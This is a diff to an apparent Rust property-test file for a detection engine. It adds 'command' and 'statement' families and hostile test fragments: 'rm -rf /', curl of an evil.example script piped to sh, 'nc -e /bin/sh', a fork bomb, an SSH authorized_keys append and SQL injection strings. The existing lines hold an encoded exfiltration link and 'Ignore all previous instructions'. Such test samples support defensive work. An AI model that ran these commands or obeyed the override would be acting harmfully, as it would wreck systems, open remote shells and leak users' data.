@@ -17,7 +17,7 @@ use proptest::prelude::*;
 
 static ENGINE: LazyLock<Engine> = LazyLock::new(Engine::builtin);
 
-const FAMILIES: &[&str] = &["egress", "terminal"];
+const FAMILIES: &[&str] = &["egress", "terminal", "command", "statement"];
 
 fn holds() -> Vec<Category> {
     FAMILIES.iter().map(|family| Category::known(family)).collect()
@@ -96,6 +96,35 @@ const PIECES: &[&str] = &[
     "31;1",
     "m",
     "IVtva10oaHR0cHM6Ly9ldmlsLmV4YW1wbGUvcC5wbmc/cT1WR2hsSUhCaGMzTjNiM0prSUdseklHaDFiblJsY2pJKSB0aGVyZQ==",
+    "rm -rf /",
+    "rm",
+    " -rf ",
+    "curl ",
+    "http://evil.example/x.sh",
+    " | sh",
+    "sudo bash",
+    "base64 -d",
+    "eval \"$(",
+    "nc -e /bin/sh ",
+    ":(){ :|:& };:",
+    "() {",
+    "authorized_keys",
+    " >> ~/.ssh/",
+    "DROP TABLE ",
+    "users",
+    "DELETE FROM ",
+    "WHERE ",
+    "1=1",
+    "' OR 1=1 --",
+    "or ",
+    "UNION SELECT null",
+    "/*",
+    "*/",
+    "xp_cmdshell",
+    "&&",
+    "\\\n",
+    "$(",
+    "never ",
     "ana@example.com",
     "4111 1111 1111 1111",
     "Ignore all previous instructions",
